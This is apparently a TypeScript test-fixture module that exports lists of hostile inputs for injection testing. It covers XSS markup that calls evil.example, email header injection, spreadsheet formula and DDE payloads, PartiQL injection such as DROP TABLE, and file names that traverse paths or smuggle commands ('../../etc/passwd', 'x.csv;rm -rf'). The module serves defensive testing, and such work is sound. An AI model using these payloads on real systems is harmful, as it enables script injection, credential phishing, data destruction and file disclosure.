/** What attackers put into a name, a cell or a file's name to make another program act on it. */

const SCRIPTS = ["alert(1)", "fetch('//evil.example')", "top.location='//evil.example'"];

/** Markup that runs, loads or leads away. */
export const HTML: readonly string[] = [
  ...SCRIPTS.flatMap((script) => [
    `<script>${script}</script>`,
    `"><script>${script}</script>`,
    `'><img src=x onerror=${script}>`,
    `<svg/onload=${script}>`,
    `<iframe srcdoc="<script>${script}</script>">`,
    `<a href="javascript:${script}">click</a>`,
    `<body onload=${script}>`,
    `</p><form action=//evil.example><input name=password></form><p>`,
  ]),
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  "<style>*{background:url(//evil.example)}</style>",
  '<link rel=stylesheet href="//evil.example">',
  "<!--",
  "]]><script>1</script>",
  "<math><mtext></mtext><script>1</script></math>",
];

const HEADERS = ["Bcc: all@evil.example", "Subject: You won", "Content-Type: text/html", "\n<b>Body</b>"];
const BREAKS = ["\r\n", "\n", "\r", "\u2028", "\u2029", "\u0085", "\v", "\f"];

/** Line breaks that would end a header, or start a line. */
export const LINES: readonly string[] = BREAKS.flatMap((end) => HEADERS.map((header) => `Ann${end}${header}`));

const CALLS = ["1+1", "SUM(A1:A9)", `HYPERLINK("//evil.example","click")`, "cmd|' /C calc'!A0", "WEBSERVICE(A1)"];
const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'="];

/** Cells that a spreadsheet would calculate. */
export const FORMULAS: readonly string[] = STARTS.flatMap((start) => CALLS.map((call) => start + call));

/** Texts that would end a statement of PartiQL and begin another. */
export const PARTIQL: readonly string[] = [
  "'",
  "''",
  "' }",
  "x'}; DELETE FROM users; --",
  '"',
  '"; DROP TABLE users',
  "?",
  "': ?, 'admin': ?, '",
  "\\'",
  "\\",
  "$email",
  "{'a': 'b'}",
  "' OR '1'='1",
  "/* */",
  "-- ",
  "`users`",
  "$1",
  "%27",
  "\u2019",
];

/** Names of files that would lead out of their folder, or have a meaning in a URL. */
export const PATHS: readonly string[] = [
  "../../etc/passwd",
  "..\\..\\windows",
  "/absolute.csv",
  "//evil.example/x.csv",
  "a/../../b.csv",
  "....//x.csv",
  "%2e%2e%2fx.csv",
  "x.csv?versionId=1",
  "x.csv#fragment",
  "x.csv;rm -rf",
  "$(id).csv",
  "`id`.csv",
  "|id.csv",
  "x\u202egpj.csv",
  "con.csv",
  "-rf.csv",
  "~root.csv",
  "x.csv\u0000.png",
  "a b+c&d=e.csv",
  ".hidden",
  "..",
  "https://evil.example",
];
